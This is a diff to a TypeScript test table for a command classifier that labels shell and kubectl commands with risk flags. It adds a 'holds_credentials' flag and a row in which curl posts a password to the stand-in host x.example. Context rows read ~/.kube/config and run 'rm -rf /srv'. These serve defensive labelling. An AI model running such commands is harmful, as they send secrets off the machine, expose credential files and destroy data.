@@ -13,7 +13,14 @@ function written(operation: Operation): string {
   const names = targets.map(({ kind, subresource, name }) =>
     [kind, subresource, name].filter(Boolean).join("/"),
   );
-  const flags = ["all_namespaces", "dry_run", "force", "all", "shows_credentials"] as const;
+  const flags = [
+    "all_namespaces",
+    "dry_run",
+    "force",
+    "all",
+    "shows_credentials",
+    "holds_credentials",
+  ] as const;
   return [
     `${tool} ${verb}`,
     ...names,
@@ -164,6 +171,21 @@ const table: readonly (readonly [line: string, ...comesTo: string[]])[] = [
   [`yq -i .a=1 f`, "unread unknown-flag"],
   [`sort -o out in`, "shell read <out <in >out"],
   [`cat ~/.kube/config`, "shell read <~/.kube/config !shows_credentials"],
+  [`curl -d 'password=Tr0ub4dor-9x' https://x.example`, "shell send to x.example !holds_credentials"],
+  [`curl -d 'size=9' https://x.example`, "shell send to x.example"],
+  // What was rendered
+  [
+    `kubectl create ns a --dry-run=client -o yaml | sed s/a/b/ | kubectl apply -f -`,
+    "kubectl create namespaces/a !dry_run",
+    "shell read from 0",
+    "kubectl apply namespaces/a from 1",
+  ],
+  [
+    `kubectl create ns a -n s --dry-run=client -o yaml > f; kubectl delete -f f`,
+    "kubectl create namespaces/a -n s >f !dry_run",
+    "kubectl delete namespaces/a -n s <f from 0",
+  ],
+  [`kubectl get ns a -o yaml | kubectl apply -f -`, "kubectl get namespaces/a", "kubectl apply from 0"],
   [`date -s 2020-01-01`, "shell set machines"],
   [`rm -rf /srv`, "shell rm files//srv >/srv !force !all"],
   // What cannot be read
